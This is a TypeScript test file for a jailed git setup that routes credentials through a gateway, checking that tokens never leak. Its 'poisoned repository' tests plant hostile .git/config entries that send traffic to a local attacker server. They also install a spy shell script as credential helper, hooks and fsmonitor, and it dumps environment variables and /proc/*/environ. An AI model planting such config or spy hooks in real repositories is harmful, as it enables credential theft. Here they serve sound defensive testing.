import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { cloneRepository, fetchRemote, type GitEnvironment, runGit } from '@notelab/git';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { createGatewayWorld, type GatewayWorld } from '../gateway/testing/gateway-world.ts';
import { answerWithPass } from '../passes/answer-credential-request.ts';
import { type CredentialSocket, openCredentialSocket } from '../passes/credential-socket.ts';
import type { PassAccess } from '../passes/passes.ts';
import { detectJail } from './detect-jail.ts';
import { gitInJail } from './git-environment.ts';
import type { Jail } from './jail.ts';

const instanceUrl = 'https://gitlab.example.test/gitlab';
const canonicalUrl = `${instanceUrl}/acme/analytics.git`;
let world: GatewayWorld;
let jail: Jail;
let project: string;
let repository: string;
let evil: Server;
let evilUrl: string;
/** The attacker's other server: at another address, but at the gateway's port. */
let impostor: Server;
/** Everything that anybody sent to the attacker's server. */
let heard: string[];
const sockets: CredentialSocket[] = [];

beforeEach(async () => {
  world = await createGatewayWorld();
  world.upstream.createRepository('acme/analytics');
  jail = await detectJail();
  project = mkdtempSync(join(homedir(), '.notelab-git-test-'));
  if (jail.owner) chownSync(project, jail.owner.uid, jail.owner.gid);
  repository = join(project, 'analytics');
  heard = [];
  [evil, impostor] = [listenFor(heard), listenFor(heard)];
  await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
  const { port } = new URL(world.gateway.url);
  await new Promise<void>((resolve) => impostor.listen(Number(port), '127.0.0.2', resolve));
  evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
  await prepare();
});
afterEach(async () => {
  for (const socket of sockets.splice(0)) await socket.close();
  for (const server of [evil, impostor]) {
    server.closeAllConnections();
    server.close();
  }
  await world.close();
  rmSync(project, { recursive: true, force: true });
});

/** A server that notes all it is told and wants credentials for everything. */
function listenFor(notes: string[]): Server {
  const server = createServer(async (req, res) => {
    notes.push(`${req.method} ${req.url}\n${req.rawHeaders.join('\n')}\n${await text(req)}`);
    res.writeHead(401, { 'www-authenticate': 'Basic realm="GitLab"' }).end();
  });
  return server.on('connect', (req, socket) => {
    notes.push(`${req.url}\n${req.rawHeaders.join('\n')}`);
    socket.end('HTTP/1.1 407 no\r\n\r\n');
  });
}

/** The environment of one action, and the secret it works with. */
async function gitFor(access: PassAccess): Promise<{ git: GitEnvironment; secret: string }> {
  const secret = world.issue(access);
  const gatewayUrl = world.gateway.urlFor(world.instanceId);
  const repositories = [{ path: 'acme/analytics', repositoryId: world.repositoryIds.get('acme/analytics')! }];
  const socket = await openCredentialSocket({
    folder: tmpdir(),
    owner: jail.owner,
    answer: answerWithPass({ gatewayUrl, repositories, secret }),
  });
  sockets.push(socket);
  const repositoryPaths = repositories.map(({ path }) => path);
  const way = { credentialSocket: socket.path, gatewayUrl, instanceUrl, repositoryPaths };
  return { git: gitInJail(jail, project, way), secret };
}

const identity = {
  GIT_AUTHOR_NAME: 'Ada',
  GIT_AUTHOR_EMAIL: 'ada@example.com',
  GIT_COMMITTER_NAME: 'Ada',
  GIT_COMMITTER_EMAIL: 'ada@example.com',
};

async function commit(): Promise<string> {
  const git = gitInJail(jail, project);
  await runGit(git, repository, ['commit', '-q', '--allow-empty', '-m', 'work'], { env: identity });
  return (await runGit(git, repository, ['rev-parse', 'HEAD'])).stdout.toString().trim();
}

const zeros = '0'.repeat(40);
let tip: string;

async function push(newOid: string): Promise<string> {
  const { git, secret } = await gitFor({ push: { ref: 'refs/heads/main', oldOid: tip, newOid } });
  await runGit(git, repository, ['push', '-q', canonicalUrl, `${newOid}:refs/heads/main`]);
  tip = newOid;
  return secret;
}

/** A clone whose first commit was pushed, all as the product does it. */
async function prepare(): Promise<void> {
  tip = zeros;
  const { git } = await gitFor('read');
  expect(await cloneRepository(git, { url: canonicalUrl, directory: repository })).toMatchObject({
    kind: 'cloned',
  });
  await push(await commit());
}

/** Every file below a folder, as one text. */
function readAll(folder: string): string {
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) =>
    entry.isFile(),
  );
  return files.map((file) => readFileSync(join(file.parentPath, file.name), 'latin1')).join('\n');
}

describe('git in the jail', () => {
  test('clone, commit, push and fetch reach GitLab under the canonical address, through the gateway', async () => {
    const head = await commit();
    await push(head);
    const { git } = await gitFor('read');
    await fetchRemote(git, repository);
    const { stdout } = await runGit(git, repository, ['rev-parse', 'refs/remotes/origin/main']);
    expect(stdout.toString().trim()).toBe(head);
    const config = readFileSync(join(repository, '.git/config'), 'utf8');
    expect(config).toContain(`url = ${canonicalUrl}`);
    expect(world.records.filter(({ kind }) => kind === 'push').length).toBe(2);
  });

  test('git without access has no way to GitLab', async () => {
    const git = gitInJail(jail, project);
    await expect(fetchRemote(git, repository)).rejects.toThrow();
    await expect(runGit(git, repository, ['ls-remote', world.urlOf('acme/analytics')])).rejects.toThrow();
  });

  test('neither token nor pass is anywhere in the project, its repository or the arguments of a process', async () => {
    const secret = await push(await commit());
    const files = readAll(project);
    expect(files).not.toContain(world.account.token);
    expect(files).not.toContain(secret);
    expect(files).not.toContain('nlp_');
  });
});

describe('a poisoned repository', () => {
  const lines: [string, (url: string) => string][] = [
    ['a proxy', (url) => `[http]\nproxy = ${url}\n`],
    ['a proxy for the gateway', (url) => `[http "${world.gateway.url}/"]\nproxy = ${url}\n`],
    [
      'a proxy for the very repository',
      (url) => `[http "${world.urlOf('acme/analytics')}"]\nproxy = ${url}\nsslVerify = false\n`,
    ],
    ['a proxy of the remote', (url) => `[remote "origin"]\nproxy = ${url}\n`],
    [
      'a proxy and no certificates for the instance',
      (url) => `[http "https://gitlab.example.test"]\nproxy = ${url}\nsslVerify = false\n`,
    ],
    ['another address for the repository', (url) => `[url "${url}/"]\ninsteadOf = ${canonicalUrl}\n`],
    ['another address for the instance', (url) => `[url "${url}/"]\ninsteadOf = ${instanceUrl}/\n`],
    ['another address for pushes', (url) => `[url "${url}/"]\npushInsteadOf = ${instanceUrl}/\n`],
    ['another address for the gateway', (url) => `[url "${url}/"]\ninsteadOf = ${world.gateway.url}/\n`],
    [
      'another address of the remote',
      (url) => `[remote "origin"]\nurl = ${url}/x.git\npushurl = ${url}/y.git\n`,
    ],
    ['another machine for the gateway', () => `[http]\ncurloptResolve = ${elsewhere()}\n`],
    [
      'another machine for the very repository',
      () => `[http "${world.urlOf('acme/analytics')}"]\ncurloptResolve = ${elsewhere()}\n`,
    ],
    ['extra headers', () => '[http]\nextraHeader = "X-Evil: 1"\nextraHeader = "Cookie: a=b"\n'],
    ['a cookie file', () => '[http]\ncookieFile = cookies\nsaveCookies = true\n'],
    ['redirects', () => '[http]\nfollowRedirects = true\n'],
    ['push options', () => '[push]\npushOption = merge_request.create\n'],
    ['a push of tags', () => '[push]\nfollowTags = true\n'],
    ['an included file', (url) => `[include]\npath = ../../included\n#${url}\n`],
  ];

  /** The gateway's very host and port, on a machine of the attacker. */
  const elsewhere = () => `127.0.0.1:${new URL(world.gateway.url).port}:127.0.0.2`;

  /** These send git to the attacker, who gets no answer out of the credential helper. */
  const misled = new Set([
    'another address for the repository',
    'another address for the instance',
    'another address for pushes',
  ]);

  test.each(lines)('%s in .git/config brings no secret to the attacker', async (name, poison) => {
    const newOid = await commit();
    const config = join(repository, '.git/config');
    writeFileSync(join(project, 'included'), `[http]\nproxy = ${evilUrl}\n`);
    writeFileSync(config, `${readFileSync(config, 'utf8')}\n${poison(evilUrl)}`);
    const reading = await gitFor('read');
    await fetchRemote(reading.git, repository, { url: canonicalUrl }).catch(() => {});
    const pushing = await gitFor({ push: { ref: 'refs/heads/main', oldOid: tip, newOid } });
    await runGit(pushing.git, repository, ['push', canonicalUrl, `${newOid}:refs/heads/main`]).catch(
      () => {},
    );

    const everything = heard.join('\n');
    for (const secret of [world.account.token, reading.secret, pushing.secret]) {
      expect(everything).not.toContain(secret);
      expect(everything).not.toContain(Buffer.from(`notelab:${secret}`).toString('base64'));
    }
    expect(world.records.at(-1)?.refs[0]?.newOid === newOid, 'the push reached GitLab').toBe(
      !misled.has(name),
    );
    const sent = world.upstream.requests.map(({ headers }) => headers);
    expect(sent.some((headers) => 'x-evil' in headers || 'cookie' in headers)).toBe(false);
  });

  test('credential helpers, hooks, fsmonitor and filters never see the token', async () => {
    const spy = join(repository, '.git/spy');
    const note = join(project, 'noted');
    writeFileSync(
      spy,
      `#!/bin/sh\n{ echo "$0 $*"; env; cat /proc/[0-9]*/environ; timeout 1 cat; } >> '${note}' 2>&1\n`,
    );
    chmodSync(spy, 0o755);
    mkdirSync(join(repository, '.git/hooks'), { recursive: true });
    for (const hook of [
      'pre-push',
      'reference-transaction',
      'post-checkout',
      'post-merge',
      'fsmonitor-watchman',
    ]) {
      writeFileSync(join(repository, '.git/hooks', hook), readFileSync(spy), { mode: 0o755 });
    }
    const config = join(repository, '.git/config');
    const poison = [
      `[credential]\nhelper = !${spy}\nhelper = store --file=${note}`,
      `[credential "${world.gateway.url}"]\nhelper = !${spy}\nhelper = store --file=${note}\nusername = evil`,
      `[core]\nfsmonitor = ${spy}\nhooksPath = .git/hooks\nsshCommand = ${spy}\naskPass = ${spy}\neditor = ${spy}\npager = ${spy}`,
      `[diff]\nexternal = ${spy}\n[filter "x"]\nclean = ${spy}\nsmudge = ${spy}`,
      `[remote "origin"]\nuploadpack = ${spy}\nreceivepack = ${spy}\nvcs = evil`,
    ];
    const newOid = await commit();
    writeFileSync(config, `${readFileSync(config, 'utf8')}\n${poison.join('\n')}\n`);
    const reading = await gitFor('read');
    await fetchRemote(reading.git, repository, { url: canonicalUrl }).catch(() => {});
    const pushing = await gitFor({ push: { ref: 'refs/heads/main', oldOid: tip, newOid } });
    await runGit(pushing.git, repository, ['push', canonicalUrl, `${newOid}:refs/heads/main`]).catch(
      () => {},
    );
    await runGit(pushing.git, repository, ['status']).catch(() => {});

    const files = readAll(project);
    for (const secret of [world.account.token, reading.secret, pushing.secret])
      expect(files).not.toContain(secret);
    expect(heard).toEqual([]);
    expect(existsSync(note)).toBe(false);
    expect(world.records.at(-1)).toMatchObject({
      kind: 'push',
      refs: [{ newOid, result: { kind: 'accepted' } }],
    });
  });
});
